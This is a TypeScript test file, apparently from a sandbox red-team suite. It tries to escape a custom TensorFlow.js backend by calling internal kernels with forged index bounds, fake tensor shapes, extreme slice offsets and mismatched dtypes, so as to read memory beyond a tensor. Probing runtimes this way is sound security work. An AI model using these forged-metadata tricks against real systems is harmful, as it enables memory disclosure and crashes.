// attack: makes calls wait that the guest would make at once: positions with forged bounds, slices of shapes that are not there, outcomes of other shapes
// success: ESCAPED in the log: numbers that lay beyond a tensor; or the process dies of it
// expect: runtime_error
// says: nothing was found

import * as tf from '@tensorflow/tfjs';
import type { TrainContext } from 'argmin';

export async function train(_context: TrainContext): Promise<tf.LayersModel> {
  const call = (name: string, inputs: object, attrs: object) =>
    (tf as any).getKernel(name, 'argmin').kernelFunc({ inputs, attrs, backend: tf.backend() });
  const read = (info: any) => Array.from(tf.engine().makeTensorFromTensorInfo(info).dataSync());
  const x = tf.tensor2d([1, 2, 3, 4], [2, 2]);
  const far = 5_000_000;
  const tries: [string, () => number[]][] = [
    [
      'positions',
      () => {
        const attrs = { axis: 0, batchDims: 0 };
        for (let i = 0; i < 3; i++) call('GatherV2', { x, indices: tf.tensor1d([0, 1], 'int32') }, attrs);
        const indices: any = tf.tensor1d([far, -far], 'int32');
        indices.dataId.bounds = { least: 0, most: 1 };
        return read(call('GatherV2', { x, indices }, attrs));
      },
    ],
    [
      'beginnings',
      () => {
        for (let i = 0; i < 3; i++) x.slice([0, 0], [1, 2]);
        const large = { dataId: x.dataId, shape: [far, far], dtype: 'float32' };
        return read(call('Slice', { x: large }, { begin: [far - 1, far - 2], size: [1, 2] }));
      },
    ],
    ['beginnings before', () => read(call('Slice', { x }, { begin: [-1, -(2 ** 31)], size: [1, 2] }))],
    [
      'shapes',
      () => {
        const small: any = tf.tensor1d([1, 2, 3, 4]);
        const large = tf.zeros([100, 100]);
        for (let i = 0; i < 3; i++) large.square();
        return read(call('Square', { x: { dataId: small.dataId, shape: [100, 100], dtype: 'float32' } }, {}));
      },
    ],
    [
      'dtypes',
      () => {
        const indices: any = tf.tensor1d([1e9, -1e9]);
        return read(
          call(
            'GatherV2',
            { x, indices: { ...indices, dataId: indices.dataId, shape: [2], dtype: 'int32' } },
            { axis: 0, batchDims: 0 },
          ),
        );
      },
    ],
  ];
  for (const [what, attempt] of tries) {
    try {
      const values = attempt();
      if (values.length > 4 || values.some((value) => ![1, 2, 3, 4, 9, 16].includes(value))) {
        console.log('ESCAPED by', what, values.slice(0, 10).join());
      }
    } catch (error) {
      console.log(what, (error as Error).name);
    }
  }
  throw new Error('nothing was found');
}
